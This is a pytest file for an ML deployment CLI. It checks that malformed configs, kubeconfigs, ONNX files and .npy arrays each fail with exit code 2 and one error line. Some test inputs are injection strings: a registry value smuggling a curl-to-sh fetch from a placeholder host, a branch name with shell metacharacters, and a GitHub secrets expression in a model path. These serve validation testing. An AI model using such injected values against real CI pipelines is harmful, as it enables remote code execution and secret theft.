"""Every input the CLI reads fails with exit 2 and one line naming the file and what is wrong
(issue 16): mlship.yaml that is not UTF-8, nested too deep, with a key twice or a value that
would inject into a CI step; an --name with a newline; an ONNX file whose external data is
out of range; a malformed kubeconfig; a broken .npy. Each of these used to be "internal error
... report it" (exit 1). The manifest case is in tests/model/test_storage.py (it needs S3).
"""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pytest
import yaml
from mlship_contract import Run, check_failure, mlship
from mlship_testsupport import make_model


def one_error_line(run: Run, *pieces: str) -> str:
    """Exit 2, stderr exactly one ``error:`` line holding every piece, no traceback."""
    assert run.code == 2, run
    assert "Traceback" not in run.stderr, run
    assert "internal error" not in run.stderr, run
    lines = run.stderr.splitlines()
    assert len(lines) == 1, run
    assert lines[0].startswith("error: "), run
    for piece in pieces:
        assert piece in lines[0], (piece, run)
    return lines[0]


@pytest.fixture
def project(tmp_path: Path, iris_model: Path) -> Path:
    (tmp_path / "iris.onnx").write_bytes(iris_model.read_bytes())
    return tmp_path


BASE = "name: iris\nmodel:\n  source: iris.onnx\n"


BAD_CONFIGS = [
    ("utf-16", BASE.encode("utf-16"), ["the file is UTF-16 encoded; save it as UTF-8"]),
    ("utf-16 without a BOM", BASE.encode("utf-16-le"), ["UTF-16 or binary, not UTF-8 text"]),
    ("a stray byte", BASE.encode() + b"image:\n  registry: ghcr.io/\xffacme\n",
     ["line 5, column 21: image.registry: not valid UTF-8 (byte 0xff)"]),
    ("nested 10,000 deep", BASE.encode() + b"labels: " + b"[" * 10_000 + b"]" * 10_000,
     ["line 4, column ", "nested deeper than 64 levels"]),
    ("a key twice", BASE.encode() + b"name: other\n",
     ["line 4, column 1:", "duplicate key 'name' (first on line 1)"]),
    ("an alias", BASE.encode() + b"labels: &l {team: ml}\nservice_account:\n"
                                 b"  annotations: *l\n",
     ["line 6, column 16:", "YAML aliases (*l) are not accepted"]),
    ("a NUL byte", BASE.encode() + b"labels: {team: m\x00l}\n",
     ["line 4, column 17: labels.team: the file holds the control character U+0000"]),
    ("a name with a newline", b'name: "iris\\n"\nmodel:\n  source: iris.onnx\n',
     ["name: 'iris\\n' is invalid: must be a DNS-1123 label", "(line 1)"]),
    ("an injected registry", BASE.encode() + b"image:\n  registry: 'ghcr.io/acme\"; curl -s "
                                            b"https://evil.invalid/x | sh; echo \"'\n",
     ["image.registry: 'ghcr.io/acme\"; curl", "is invalid: must be a registry host"]),
    ("a base with a newline", BASE.encode() + b'image:\n  base: "python:3.11-slim\\n"\n',
     ["image.base: 'python:3.11-slim\\n' is invalid: must be an image reference"]),
    ("a quantity beyond int64", BASE.encode() + b"resources:\n  limits: "
                                                b"{cpu: '2', memory: 99999999999999999999Ei}\n",
     ["resources.limits.memory: '99999999999999999999Ei' is invalid", "2^63-1"]),
    ("a mount over the virtualenv", BASE.encode() + b"env:\n  secrets: "
                                                    b"[{name: s, mount_path: /tmp/../opt/venv}]\n",
     ["env.secrets.0.mount_path: '/tmp/../opt/venv' is invalid: must be an absolute, "
      "normalized path"]),
    ("a label that is not a label", BASE.encode() + b"labels: {'team/a/b': x}\n",
     ["labels.team/a/b: 'team/a/b' is invalid: must be a Kubernetes label key"]),
]


@pytest.mark.parametrize(("case", "content", "pieces"), BAD_CONFIGS,
                         ids=[case for case, _, _ in BAD_CONFIGS])
@pytest.mark.parametrize("command", [("render",), ("ci", "github")], ids=" ".join)
def test_bad_mlship_yaml_is_one_line_with_exit_2(project: Path, case: str, content: bytes,
                                                 pieces: list[str],
                                                 command: tuple[str, ...]) -> None:
    (project / "mlship.yaml").write_bytes(content)
    extra = ("--mlship-source", "mlship @ git+https://github.com/acme/mlship@v1",
             "--registry", "config") if command[0] == "ci" else ("-o", "out")
    run = mlship(*command, "-c", "mlship.yaml", *extra, cwd=project)
    one_error_line(run, "mlship.yaml", *pieces)
    assert not (project / "out").exists()
    assert not (project / ".github").exists()


def test_json_error_document_for_a_bad_config(project: Path) -> None:
    (project / "mlship.yaml").write_bytes(BASE.encode("utf-16"))
    run = mlship("render", "-c", "mlship.yaml", "--json", cwd=project)
    assert run.code == 2
    document = check_failure(("render",), run.stdout, 2)
    assert document["error"]["type"] == "ConfigError"


def test_init_refuses_a_name_with_a_newline(project: Path) -> None:
    run = mlship("init", "iris.onnx", "--name", "ab\ncd", cwd=project)
    one_error_line(run, "--name: 'ab\\ncd' is invalid: must be a DNS-1123 label")
    assert not (project / "mlship.yaml").exists()


def test_ci_refuses_a_branch_that_is_not_one(project: Path) -> None:
    (project / "mlship.yaml").write_text(BASE)
    run = mlship("ci", "gitlab", "--branch", 'main" || true #', "--mlship-source",
                 "mlship @ git+https://github.com/acme/mlship@v1", cwd=project)
    one_error_line(run, "--branch: 'main\" || true #' is invalid")


def test_ci_refuses_a_model_path_github_would_expand(project: Path) -> None:
    (project / "${{ secrets.KUBECONFIG }}.onnx").write_bytes((project / "iris.onnx").read_bytes())
    (project / "mlship.yaml").write_text(yaml.safe_dump(
        {"name": "iris", "model": {"source": "${{ secrets.KUBECONFIG }}.onnx"}}))
    run = mlship("ci", "github", "--mlship-source",
                 "mlship @ git+https://github.com/acme/mlship@v1", cwd=project)
    one_error_line(run, "mlship.yaml: model.source: '${{ secrets.KUBECONFIG }}.onnx' is "
                        "invalid: must be a path to the model file, without '${{'")


def _external_model(directory: Path, offset: str) -> Path:
    import onnx
    from onnx import TensorProto

    model = onnx.load(str(make_model(directory / "inline.onnx")))
    weights = model.graph.initializer[0]
    (directory / "w.bin").write_bytes(weights.raw_data or b"\0" * 64)
    weights.ClearField("raw_data")
    weights.ClearField("float_data")
    weights.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "w.bin"), ("offset", offset), ("length", "64")):
        entry = weights.external_data.add()
        entry.key, entry.value = key, value
    path = directory / f"offset{offset}.onnx"
    onnx.save_model(model, str(path))
    return path


@pytest.mark.parametrize("offset", ["-8", "eight"])
def test_inspect_refuses_an_external_data_offset_out_of_range(tmp_path: Path,
                                                              offset: str) -> None:
    model = _external_model(tmp_path, offset)
    run = mlship("inspect", str(model))
    one_error_line(run, str(model), "tensor 'w' has invalid external data")


BAD_KUBECONFIGS = [
    ("not YAML", b"apiVersion: v1\nclusters: [\n", "line 3, column 1: not valid YAML"),
    ("a list", b"- a\n- b\n", "not a valid kubeconfig"),
    ("contexts a number", b"contexts: 5\ncurrent-context: x\n", "not a valid kubeconfig"),
    ("not UTF-8", b"a: \xff\xfe\n", "not UTF-8 text"),
    ("entries of the wrong type", b"apiVersion: v1\nkind: Config\ncurrent-context: c\n"
                                  b"contexts: [{name: c, context: 7}]\n"
                                  b"clusters: [{name: k, cluster: 8}]\nusers: [{name: u, "
                                  b"user: 9}]\n", "not a valid kubeconfig"),
]


@pytest.mark.parametrize(("case", "content", "piece"), BAD_KUBECONFIGS,
                         ids=[case for case, _, _ in BAD_KUBECONFIGS])
def test_a_malformed_kubeconfig_is_one_line_with_exit_2(project: Path, case: str,
                                                        content: bytes, piece: str) -> None:
    (project / "mlship.yaml").write_text(BASE)
    kubeconfig = project / "kubeconfig"
    kubeconfig.write_bytes(content)
    run = mlship("diff", "-c", "mlship.yaml", "--kubeconfig", str(kubeconfig), cwd=project)
    one_error_line(run, f"{kubeconfig}: {piece}")


def _npy(shape: str = "(10,)") -> bytes:
    import io

    buffer = io.BytesIO()
    np.save(buffer, np.zeros((10,), dtype=np.float32))
    return buffer.getvalue().replace(b"(10,)", shape.encode())


BAD_NPY = [
    ("empty", b"", "EOF"),
    ("not numpy", b"hello world", "the magic string is not correct"),
    ("truncated", _npy()[:-8], "but only 32 bytes of data follow"),
    ("a header asking for terabytes", _npy("(1000000000000,)"), "(4000000000000 bytes)"),
    ("a shape beyond int64", _npy("(99999999999999999999,)"), "of data follow"),
    ("a negative dimension", _npy("(-1,)"), "a negative dimension"),
]


@pytest.mark.parametrize(("case", "content", "piece"), BAD_NPY, ids=[c for c, _, _ in BAD_NPY])
def test_a_broken_npy_is_one_line_with_exit_2(tmp_path: Path, case: str, content: bytes,
                                              piece: str) -> None:
    model = make_model(tmp_path / "model.onnx")
    samples = tmp_path / "samples.npy"
    samples.write_bytes(content)
    run = mlship("baseline", "--input", str(samples), "--model", str(model),
                 "--out", str(tmp_path / "baseline.json"))
    line = one_error_line(run, f"{samples}: not a valid .npy array", piece)
    assert re.search(r"error: \S+samples\.npy: ", line)
    assert not (tmp_path / "baseline.json").exists()
